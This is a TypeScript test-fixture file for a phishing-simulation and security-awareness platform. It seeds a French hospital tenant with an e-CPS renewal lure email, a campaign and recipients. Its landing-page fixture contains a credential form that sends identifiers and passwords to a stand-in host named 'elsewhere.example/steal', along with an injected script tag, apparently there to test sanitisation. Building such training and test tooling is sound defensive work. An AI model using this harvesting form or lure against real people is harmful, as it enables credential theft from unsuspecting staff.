/**
 * Test fixtures of the tracking tests: a tenant with a template (cues marked in the body), a
 * landing page, a sending profile, a launched campaign and recipients holding real tokens.
 * Rows are written straight to the database, like test/helpers/factories.ts.
 */
import { randomBytes } from 'node:crypto';
import { makeAccount, makeOrg, makePerson } from '../../../../../test/helpers/factories.js';
import type { Db } from '../../../db/index.js';
import { newId, sha256Hex } from '../../../platform/ids.js';

export const BROWSER_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36';

export interface TestRecipient {
  id: string;
  token: string;
  personId: string | null;
}

export interface TestCampaign {
  orgId: string;
  campaignId: string;
  templateId: string;
  landingPageId: string | null;
  recipients: TestRecipient[];
}

const FR_HTML = `<p>Bonjour {{firstName}},</p>
<p data-cue="urgency">Votre carte e-CPS expire <strong>aujourd’hui</strong>.</p>
<p>Renouvelez-la ici : <a href="{{link}}" data-cue="link">portail sécurisé</a></p>
<p>Le service informatique</p>{{trackingImage}}`;
const EN_HTML = FR_HTML.replace('Bonjour', 'Hello').replace('Votre carte e-CPS expire', 'Your e-CPS card expires');
const cues = (lang: 'fr' | 'en') =>
  JSON.stringify([
    { id: 'sender', category: 'technical', label: lang === 'fr' ? 'Adresse de l’expéditeur' : 'Sender address', explanation: 'x' },
    { id: 'urgency', category: 'tactic', label: lang === 'fr' ? 'Urgence' : 'Urgency', explanation: 'Pression du temps.' },
    {
      id: 'link',
      category: 'technical',
      label: lang === 'fr' ? 'Lien trompeur' : 'Misleading link',
      explanation: 'Le lien mène ailleurs.',
    },
  ]);

export async function makeTrackedCampaign(
  db: Db,
  opts: {
    now: Date;
    people?: number;
    anonymous?: boolean;
    landing?: boolean;
    learningModuleId?: string | null;
    /** Seconds between sending and `now` (default: an hour). */
    sentSecondsAgo?: number;
    accountLocale?: 'fr' | 'en';
  },
): Promise<TestCampaign> {
  const at = opts.now.toISOString();
  const org = await makeOrg(db);
  const suffix = newId();
  const landingPageId = opts.landing === false ? null : `lp-${suffix}`;
  if (landingPageId) {
    await db
      .insertInto('phishing_landing_pages')
      .values({
        id: landingPageId,
        organization_id: org.id,
        origin: 'custom',
        kind: 'sign-in',
        version: 1,
        archived: 0,
        created_at: at,
        updated_at: at,
      })
      .execute();
    await db
      .insertInto('phishing_landing_page_texts')
      .values({
        landing_page_id: landingPageId,
        language: 'fr',
        title: 'Portail e-CPS',
        html: `<h1>Connexion</h1><form action="https://elsewhere.example/steal" method="get"><label for="id">Identifiant</label>
<input id="id" name="identifier" value="{{email}}"><input type="password" name="password"><button>Valider</button></form>
<script>alert(1)</script><a href="https://elsewhere.example">Aide</a>`,
      })
      .execute();
  }
  const templateId = `tpl-${suffix}`;
  await db
    .insertInto('phishing_templates')
    .values({
      id: templateId,
      organization_id: org.id,
      origin: 'custom',
      forked_from: null,
      theme: 'identity',
      audiences: '[]',
      landing_page_id: landingPageId,
      premise_alignment: 'high',
      cue_count: 3,
      difficulty: 'moderately-difficult',
      version: 1,
      archived: 0,
      created_at: at,
      updated_at: at,
    })
    .execute();
  for (const language of ['fr', 'en'] as const) {
    await db
      .insertInto('phishing_template_texts')
      .values({
        template_id: templateId,
        language,
        title: `Renouvellement e-CPS ${language}`,
        from_name: language === 'fr' ? 'Support e-CPS' : 'e-CPS support',
        from_local_part: 'support-ecps',
        subject: language === 'fr' ? 'Action requise : votre e-CPS, {{firstName}}' : 'Action required: your e-CPS, {{firstName}}',
        html: language === 'fr' ? FR_HTML : EN_HTML,
        cues: cues(language),
        premise_rationale: '',
      })
      .execute();
  }
  const profileId = newId();
  await db
    .insertInto('phishing_sending_profiles')
    .values({
      id: profileId,
      organization_id: org.id,
      territory_id: null,
      name: 'Test profile',
      host: '127.0.0.1',
      port: 2525,
      tls_mode: 'none',
      username: null,
      password_sealed: null,
      from_name: 'Support',
      from_address: 'support@ecps-renouvellement.example',
      rate_per_minute: 60,
      window_days: '[1,2,3,4,5]',
      window_start: '08:00',
      window_end: '18:00',
      time_zone: 'Europe/Paris',
      extra_headers: '[]',
      archived: 0,
      created_at: at,
      updated_at: at,
    })
    .execute();
  const campaignId = newId();
  await db
    .insertInto('phishing_campaigns')
    .values({
      id: campaignId,
      organization_id: org.id,
      territory_id: null,
      name: 'Campagne test',
      status: 'running',
      template_id: templateId,
      template_version: 1,
      difficulty: 'moderately-difficult',
      landing_page_id: landingPageId,
      sending_profile_id: profileId,
      learning_module_id: opts.learningModuleId ?? null,
      targets: '{}',
      anonymous: opts.anonymous ? 1 : 0,
      retention_days: 365,
      launch_at: at,
      spread_until: null,
      paused_at: null,
      launched_at: at,
      completed_at: null,
      purged_at: null,
      created_by: null,
      created_at: at,
      updated_at: at,
    })
    .execute();
  const sentAt = new Date(opts.now.getTime() - (opts.sentSecondsAgo ?? 3600) * 1000).toISOString();
  const recipients: TestRecipient[] = [];
  for (let i = 0; i < (opts.people ?? 1); i++) {
    const person = await makePerson(db, org.id, { firstName: `Camille${i}`, service: i % 2 ? 'Cardiologie' : 'Urgences' });
    if (opts.accountLocale) {
      const account = await makeAccount(db, { personId: person.id });
      await db.updateTable('accounts').set({ locale: opts.accountLocale }).where('id', '=', account.id).execute();
    }
    const token = randomBytes(16).toString('base64url');
    const id = newId();
    await db
      .insertInto('phishing_recipients')
      .values({
        id,
        campaign_id: campaignId,
        organization_id: org.id,
        person_id: opts.anonymous ? null : person.id,
        email: opts.anonymous ? null : person.email,
        first_name: opts.anonymous ? null : `Camille${i}`,
        last_name: opts.anonymous ? null : 'Martin',
        service: i % 2 ? 'Cardiologie' : 'Urgences',
        role_family: 'nurses_care_assistants',
        site: 'Site principal',
        token_hash: sha256Hex(token),
        send_order: i,
        scheduled_at: sentAt,
        status: 'delivered',
        attempts: 1,
        next_attempt_at: null,
        claimed_by: null,
        last_error: null,
        message_id: `<${id}@test>`,
        sent_at: sentAt,
        delivered_at: sentAt,
        opened_at: null,
        clicked_at: null,
        submitted_at: null,
        reported_at: null,
        scanner_flagged: 0,
      })
      .execute();
    recipients.push({ id, token, personId: opts.anonymous ? null : person.id });
  }
  return { orgId: org.id, campaignId, templateId, landingPageId, recipients };
}

/** A published lesson of the organization, offered by a campaign. */
export async function makeLesson(db: Db, orgId: string, now: Date): Promise<{ id: string; title: string }> {
  const id = newId();
  const at = now.toISOString();
  await db
    .insertInto('learning_modules')
    .values({
      id,
      organization_id: orgId,
      origin: 'custom',
      forked_from: null,
      kind: 'lesson',
      audience: 'staff',
      level: 1,
      topic: 'phishing',
      role_families: '[]',
      threat_tags: '[]',
      version: 1,
      duration_minutes: 3,
      status: 'published',
      last_reviewed: null,
      content_hash: null,
      created_by: null,
      created_at: at,
      updated_at: at,
    })
    .execute();
  const title = `Repérer un faux courriel ${id.slice(-6)}`;
  await db
    .insertInto('learning_module_texts')
    .values({
      module_id: id,
      language: 'fr',
      title,
      summary: 'Trois minutes pour les indices.',
      screens: '[]',
      questions: '[]',
      updated_at: at,
    })
    .execute();
  return { id, title };
}
